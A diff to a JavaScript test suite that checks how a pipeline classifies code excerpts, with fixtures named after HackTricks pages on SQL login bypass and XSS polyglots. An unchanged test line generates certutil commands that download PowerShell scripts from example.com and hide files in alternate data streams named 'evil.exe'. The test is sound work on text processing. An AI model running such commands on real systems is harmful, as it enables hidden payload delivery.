@@ -73,6 +73,8 @@ describe('real recordings the cap cuts are the pipeline\'s (test/fixtures/ck006)
     ['objdump\'s section headers after the command that printed them (HackTricks elf-tricks.md)', 'objdump-section-headers.md', /a program's report/],
     ['a Bus Pirate session: mode prompts (`I2C>v`, `(1)>4`), what the device printed, `#` notes between (HackTricks i2c.md)', 'bus-pirate-session.md', /an annotated session/],
     ['an lldb session behind a note (HackTricks arm64-basic-assembly.md)', 'lldb-session.md', /an annotated session/, budgets],
+    ['a list of login-bypass payloads: words and injections whose quotes are left open (HackTricks sql-login-bypass.md)', 'login-bypass-payloads.md', /one literal per line/],
+    ['XSS polyglots, one a line (HackTricks pocs-and-polygloths-cheatsheet)', 'xss-polyglots.md', /one literal per line/],
     ['a PowerShell table (a header row, a rule of dashes, a row per command) after its command (HackTricks laps.md)', 'powershell-table.md', /a program's printed records/],
   ];
   for (const [name, file, kind, caps = wide] of excerpts) {
@@ -94,6 +96,8 @@ describe('split code that is no recording stays the writer\'s', () => {
     ['a shell excerpt behind comments', `\`\`\`bash\n# install the tools\n${lines(30, (i) => `apt-get install -y tool-${i}`)}\n\`\`\``],
     ['a cheat sheet of commands under notes, a few behind a prompt (`C:\\> type …`), most bare', `\`\`\`bash\n${lines(10, (i) => `# Step ${i} of the recipe\nC:\\temp> type file${i}.exe > "C:\\Program Files\\log${i}.txt:evil.exe"\n# and then\ncertutil.exe -urlcache -split -f https://example.com/${i}.ps1 c:\\temp:t${i}\ndir /R c:\\dir${i}`)}\n\`\`\``],
     ['PowerShell parameters typed in brackets (`[String]$Mode,`), no prompts', `\`\`\`powershell\nparam(\n${lines(30, (i) => `    [String]$Param${i},\n    # parameter ${i}`)}\n)\n\`\`\``],
+    ['numbered steps in a fence (`1) Right click …`)', `\`\`\`\n${lines(15, (i) => `${i + 1}) Click the "Option ${i}" button and wait for the dialog.\n`)}\n\`\`\``],
+    ['JavaScript calls chained over lines without indentation', `\`\`\`js\n${lines(15, (i) => `fetch(url${i}, {\nmethod: 'POST' })`)}\n\`\`\``],
     ['a tool\'s version banner followed by C code', `\`\`\`c\nImpacket v0.9.24 - Copyright 2021 SecureAuth Corporation\n${lines(30, (i) => `int value${i} = compute(${i});`)}\n\`\`\``],
         ['JavaScript that spreads and elides (`...args`, `// ...`)', `\`\`\`js\n${lines(30, (i) => `call${i}(...args); // ... and then step ${i}`)}\n\`\`\``],
   ];
